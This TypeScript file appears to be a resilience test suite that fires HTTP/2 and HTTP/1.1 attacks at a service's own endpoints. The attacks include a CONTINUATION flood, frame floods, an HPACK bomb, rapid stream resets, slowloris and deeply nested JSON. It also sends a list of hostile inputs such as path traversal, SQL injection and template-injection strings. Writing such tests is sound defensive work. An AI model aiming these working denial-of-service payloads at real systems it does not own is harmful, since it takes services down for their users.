import { sleep, tally, type Attack } from '../attack.js';
import {
  countClosed,
  END_HEADERS,
  frame,
  FRAME,
  openHttp2,
  openSocket,
  plainHeader,
  requestHeaders,
  resetFrame,
  write,
} from '../http2-frames.js';

const CHECK = '/grpc.health.v1.Health/Check';

/** One connection, one flood, and whether the server has closed it in the end. */
function flood(bytes: Buffer): Attack {
  return async ({ grpcTarget }) => {
    const socket = await openHttp2(grpcTarget);
    await Promise.race([write(socket, bytes), sleep(3_000)]);
    await sleep(1_000);
    const closed = countClosed([socket]);
    socket.destroy();
    return { bytes: bytes.length, closedByServer: closed };
  };
}

function repeated(count: number, each: (i: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => each(i)));
}

/** Headers that never end (CVE-2024-27316 and its kin). */
export const continuationFlood = flood(
  Buffer.concat([
    frame(FRAME.headers, 0, 1, requestHeaders(CHECK)),
    repeated(5_000, (i) => frame(FRAME.continuation, 0, 1, plainHeader(`x-${i}`, 'y'.repeat(100)))),
  ]),
);

export const settingsFlood = flood(repeated(50_000, () => frame(FRAME.settings, 0, 0)));
export const pingFlood = flood(repeated(50_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))));
export const windowUpdateFlood = flood(repeated(100_000, () => frame(FRAME.windowUpdate, 0, 0, Buffer.of(0, 0, 0, 1))));

/** One header of 4 KB in the compression's table, named 16,000 times: 64 MB of headers in 16 KB. */
export const hpackBomb = flood(
  Buffer.concat([
    frame(
      FRAME.headers,
      END_HEADERS,
      1,
      // Length 3,900 = 127 + 3,773, as HPACK writes numbers.
      Buffer.concat([requestHeaders(CHECK), Buffer.of(0x40, 1), Buffer.from('x'), Buffer.of(127, 0xbd, 0x1d), Buffer.alloc(3_900, 0x61)]),
    ),
    frame(FRAME.headers, END_HEADERS, 3, Buffer.concat([requestHeaders(CHECK), Buffer.alloc(16_000, 0xbe)])),
  ]),
);

/** Calls that are taken back, a few at a time: within what one turn of the loop shows. */
export const slowReset: Attack = async ({ grpcTarget }) => {
  const socket = await openHttp2(grpcTarget);
  const block = requestHeaders(CHECK);
  for (let i = 0; i < 2_000 && !socket.destroyed; i++) {
    const stream = 1 + 2 * i;
    await write(socket, Buffer.concat([frame(FRAME.headers, END_HEADERS, stream, block), resetFrame(stream)]));
    if (i % 50 === 0) await sleep(10);
  }
  await sleep(500);
  const closed = countClosed([socket]);
  socket.destroy();
  return { closedByServer: closed };
};

/** Heads that come byte by byte. */
export const slowloris: Attack = async ({ restTarget }) => {
  const sockets = await Promise.all(Array.from({ length: 300 }, () => openSocket(restTarget)));
  const head = 'GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ';
  for (let i = 0; i < 20; i++) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(head[i] ?? 'a');
    await sleep(200);
  }
  const closed = countClosed(sockets);
  for (const socket of sockets) socket.destroy();
  return { sockets: sockets.length, closedByServer: closed };
};

const ODD = [
  '__proto__',
  'constructor',
  'toString',
  '',
  ' ',
  'x'.repeat(3_000),
  '\0',
  '../../etc/passwd',
  '%00',
  '💥',
  "'; drop table",
  '{{7*7}}',
];

/** Names and cursors that nobody gave out, everywhere that takes one. */
export const oddNames: Attack = async ({ restUrl }) => {
  const paths = ODD.map(encodeURIComponent).flatMap((odd) => [
    `/features?featureset=${odd}&entity_id=a`,
    `/features?featureset=Account&entity_id=a&${odd}=1`,
    `/features?featureset=Account&entity_id=a&after=${odd}`,
    `/query-runs?cursor=${odd}`,
    `/query-runs/${odd}`,
    `/${odd}`,
  ]);
  const statuses: number[] = [];
  for (const path of paths) statuses.push((await fetch(restUrl + path)).status);
  return { statuses: tally(statuses.map((status) => (status >= 500 ? status : `${Math.floor(status / 100)}xx`))) };
};

/** Expressions that nest, in a plan: deeper than definitions allow, than JSON is read, and than any stack. */
export const deepExpressions: Attack = async ({ restUrl }) => {
  const statuses: number[] = [];
  for (const depth of [40, 150, 5_000, 200_000]) {
    const expression = `${'{"not":{"operand":'.repeat(depth)}{}${'}}'.repeat(depth)}`;
    const body = `{"definitions":{"pipelines":[{"steps":[{"filter":{"predicate":${expression}}}]}]}}`;
    const response = await fetch(`${restUrl}/api/v1/plan`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    await response.arrayBuffer();
    statuses.push(response.status);
  }
  return { statuses: tally(statuses) };
};
